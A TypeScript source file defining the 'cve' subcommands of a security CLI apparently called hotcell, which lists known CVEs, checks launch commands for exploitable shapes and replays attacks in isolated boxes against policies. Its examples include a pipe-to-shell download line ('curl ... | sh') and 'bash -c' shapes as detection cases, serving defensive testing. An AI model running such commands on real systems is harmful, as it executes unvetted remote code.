import { z } from 'zod';
import { type CommandDefinition, defineCommand } from '../definition.ts';

const json = { flags: '--json', description: 'as JSON' };

const list = defineCommand({
  name: 'list',
  summary: 'the known attacks, with the releases that they are fired at',
  options: [json],
  examples: [
    { line: 'hotcell cve list', says: 'what can be replayed' },
    { line: 'hotcell cve list --json', says: 'with proofs, honest tasks and what a policy has to allow' },
  ],
  input: z.object({ json: z.boolean().default(false) }),
  async run(wishes, _words, door) {
    const { runList } = await import('../cve/list.ts');
    return runList(wishes, door);
  },
});

const check = defineCommand({
  name: 'check',
  summary: 'whether a launch command is of a known exploitable shape',
  description: [
    'Whether a launch command is of a known exploitable shape. Nothing is run.',
    'Words after -- are taken as a program gets them: nothing in them is expanded, and each program is read by its own options. With --line the text is taken as a shell reads it.',
  ].join('\n'),
  arguments: [{ name: '[command...]', description: 'the command, after --' }],
  options: [{ flags: '--line <text>', description: 'a line for a shell instead of words' }, json],
  examples: [
    { line: 'hotcell cve check -- npx -y some-server@1.2.3', says: 'fine' },
    { line: 'hotcell cve check -- node server.js -p 3000', says: 'fine: -p comes after the script' },
    { line: 'hotcell cve check -- python3.11 -c "import os"', says: 'code on the command line' },
    { line: "hotcell cve check --line 'curl -s https://example.com/i | sh'", says: 'what is downloaded is run' },
  ],
  exits: [
    { code: '0', when: 'no known exploitable shape' },
    { code: '1', when: 'exploitable: each shape is shown with the words it is in' },
    { code: '2', when: 'no command was given, or two' },
  ],
  input: z.object({ line: z.string().optional(), json: z.boolean().default(false) }),
  async run(wishes, words, door) {
    const { runCheck } = await import('../cve/check.ts');
    return runCheck(wishes, words, door);
  },
});

const replay = defineCommand({
  name: 'replay',
  summary: 'fire known attacks at the releases that they are known for, in boxes',
  description: [
    'Fire known attacks at the releases that they are known for. Each server is fetched, verified, installed and started in a box; the proof reads a planted word or makes a marker, and does no harm.',
    'Without --policy the vulnerable and the fixed release are shown to differ. With --policy the vulnerable one is attacked again under it, and its honest task has to work under the same policy: learnt is the policy that the honest task itself asks for.',
  ].join('\n'),
  arguments: [{ name: '[id...]', description: 'CVE or GHSA ids; default: all of hotcell cve list' }],
  settings: ['backend'],
  options: [
    { flags: '--policy <policy>', description: 'learnt, a tier or a policy file; default: none' },
    { flags: '--timeout <seconds>', description: 'for one attack with all its runs; default 300' },
    json,
  ],
  examples: [
    { line: 'hotcell cve replay CVE-2025-53110', says: 'the vulnerable and the fixed release' },
    { line: 'hotcell cve replay --policy learnt', says: 'all of them, against policies learnt from honest use' },
    { line: 'hotcell cve replay CVE-2025-53109 --policy LOW --json', says: 'under a tier, for a program' },
  ],
  exits: [
    { code: '0', when: 'every attack was blocked; without --policy: every attack was shown' },
    { code: '1', when: 'with --policy: at least one attack succeeded under it' },
    { code: '2', when: 'no such attack or policy: nothing was run' },
    { code: '3', when: 'at least one attack could not be reproduced' },
    { code: '4', when: 'no isolation available: nothing was run' },
  ],
  input: z.object({
    policy: z.string().optional(),
    timeout: z.string().optional(),
    json: z.boolean().default(false),
  }),
  async run(wishes, words, door) {
    const { runReplay } = await import('../cve/replay.ts');
    return runReplay(wishes, words, door);
  },
});

export const cve: CommandDefinition = {
  name: 'cve',
  summary: 'known attacks: exploitable launch commands, and replays against a policy',
  examples: [{ line: 'hotcell cve check -- bash -c id', says: 'exit 1: a shell is given a line' }],
  subcommands: [list, check, replay],
};
